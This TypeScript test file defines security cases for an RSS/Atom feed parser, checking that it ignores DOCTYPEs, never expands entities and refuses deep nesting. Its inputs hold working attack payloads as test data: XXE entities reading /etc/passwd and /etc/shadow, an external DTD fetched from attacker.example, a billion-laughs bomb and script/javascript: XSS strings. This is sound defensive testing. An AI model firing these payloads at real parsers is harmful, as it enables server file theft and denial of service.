import { atom, type FeedCase, rss2 } from "../feedCase.js";

const lols = [
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`),
].join("\n");

const deep = (depth: number) => `${"<div>".repeat(depth)}x${"</div>".repeat(depth)}`;

export const securityCases: FeedCase[] = [
  {
    name: "security: XXE SYSTEM entity is never expanded",
    doc: `<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>XXE</title><item><title>Leak &xxe; here</title><description>&xxe;</description></item></channel></rss>`,
    items: [{ title: "Leak &xxe; here", contentHtml: "&xxe;" }],
    warnings: [/ignored the DOCTYPE/, /unescaped &/],
    absent: ["root:", "/bin/", "file:///etc/passwd"],
  },
  {
    name: "security: XXE parameter entity with external DTD",
    doc: `<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>
<rss version="2.0"><channel><title>P</title><item><title>Param</title></item></channel></rss>`,
    items: [{ title: "Param" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["attacker.example"],
  },
  {
    name: "security: billion laughs is not expanded",
    doc: `<?xml version="1.0"?>
<!DOCTYPE lolz [
${lols}
]>
<rss version="2.0"><channel><title>Lolz</title><item><title>&lol9;</title></item></channel></rss>`,
    items: [{ title: "&lol9;" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["lollol"],
  },
  {
    name: "security: internal entity defined in DOCTYPE stays literal",
    doc: `<!DOCTYPE rss [<!ENTITY company "ACME Corp">]><rss version="2.0"><channel><title>&company;</title><item><title>By &company;</title></item></channel></rss>`,
    feed: { title: "&company;" },
    items: [{ title: "By &company;" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["ACME"],
  },
  {
    name: "security: DOCTYPE with quoted > and ] inside the subset",
    doc: `<!DOCTYPE rss [<!ENTITY a "x > y ] z">]><rss version="2.0"><channel><title>Q</title><item><title>Quoted</title></item></channel></rss>`,
    items: [{ title: "Quoted" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["x > y"],
  },
  {
    name: "security: DOCTYPE subset comment with an apostrophe",
    doc: `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!-- HTML entities our CMS uses; don't remove -->
  <!ENTITY nbsp "&#160;">
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<rss version="2.0"><channel><title>CMS News</title><item><title>Hello&nbsp;world &secret;</title><link>https://cms.example/1</link></item></channel></rss>`,
    feed: { title: "CMS News" },
    items: [{ title: "Hello world &secret;", link: "https://cms.example/1" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["don't remove", "/etc/passwd", "root:"],
  },
  {
    name: "security: DOCTYPE subset comment containing ]>",
    doc: `<?xml version="1.0"?>
<!DOCTYPE rss [
 <!-- a ]> b -->
 <!ENTITY e "ENTITY-VALUE">
]>
<rss version="2.0"><channel><title>T</title><item><title>I &e;</title><link>https://t.example/1</link></item></channel></rss>`,
    items: [{ title: "I &e;", link: "https://t.example/1" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["a ]> b", "ENTITY-VALUE"],
  },
  {
    name: "security: DOCTYPE subset processing instruction containing ]> and a quote",
    doc: `<?xml version="1.0"?>
<!DOCTYPE rss [
 <?pi ]> it's ?>
]>
<rss version="2.0"><channel><title>T</title><item><title>I</title><link>https://t.example/1</link></item></channel></rss>`,
    items: [{ title: "I", link: "https://t.example/1" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["it's"],
  },
  {
    name: "security: Atom with XXE in content",
    doc: `<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/hostname">]>${atom(`<entry><title>T</title><id>i</id><content type="html">&x;</content></entry>`).replace('<?xml version="1.0" encoding="utf-8"?>', "")}`,
    items: [{ contentHtml: "&x;" }],
    warnings: [/ignored the DOCTYPE/],
    absent: ["/etc/hostname"],
  },
  {
    name: "security: absurd nesting depth is rejected",
    doc: rss2(`<item><title>Deep</title><description>${deep(5000)}</description></item>`),
    error: /nested deeper than 512/,
  },
  {
    name: "security: a million unclosed nested elements are refused before any parser runs",
    doc: rss2(`<item><title>Bomb</title><description>${"<x>".repeat(1_000_000)}</description></item>`),
    error: /nested deeper than 512/,
  },
  {
    name: "security: deep nesting inside CDATA is content, not structure",
    doc: rss2(
      `<item><title>Cdata</title><description><![CDATA[${"<div>".repeat(2000)}]]></description></item>`,
    ),
    items: [{ title: "Cdata" }],
  },
  {
    name: "security: moderate nesting (50) in description is fine",
    doc: rss2(`<item><title>Nested</title><description>${deep(50)}</description></item>`),
    items: [{ title: "Nested", contentHtml: deep(50) }],
  },
  {
    name: "security: script in content is passed on raw for the sanitizer",
    doc: rss2(
      `<item><title>Script</title><description><![CDATA[<p>ok</p><script>alert(1)</script>]]></description></item>`,
    ),
    items: [{ contentHtml: "<p>ok</p><script>alert(1)</script>" }],
  },
  {
    name: "security: javascript: link is kept raw (normalize drops it)",
    doc: rss2(`<item><title>JS</title><link>javascript:alert(1)</link></item>`),
    items: [{ link: "javascript:alert(1)" }],
  },
  {
    name: "security: processing instructions and comments are ignored",
    doc: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/rss.xsl"?><!-- generator: x -->${rss2(`<item><title>PI</title><!-- hidden --></item>`).replace('<?xml version="1.0" encoding="UTF-8"?>', "")}`,
    items: [{ title: "PI" }],
  },
  {
    name: "security: DOCTYPE after PHP warning markup is stripped before the retry",
    doc: `<br />\n<b>Notice</b>: x<br />\n<?xml version="1.0"?><!DOCTYPE r [<!ENTITY s SYSTEM "file:///etc/shadow">]><rss version="2.0"><channel><title>T</title><item><title>A &s; B</title></item></channel></rss>`,
    items: [{ title: "A &s; B" }],
    warnings: [/text before the XML declaration/, /ignored the DOCTYPE/],
    absent: ["/etc/shadow"],
  },
  {
    name: "security: a DOCTYPE inside CDATA content is content, not stripped",
    doc: rss2(
      `<item><title>Page</title><description><![CDATA[<!DOCTYPE html><html><body><p>whole page</p></body></html>]]></description></item>`,
    ),
    items: [{ contentHtml: "<!DOCTYPE html><html><body><p>whole page</p></body></html>" }],
  },
];
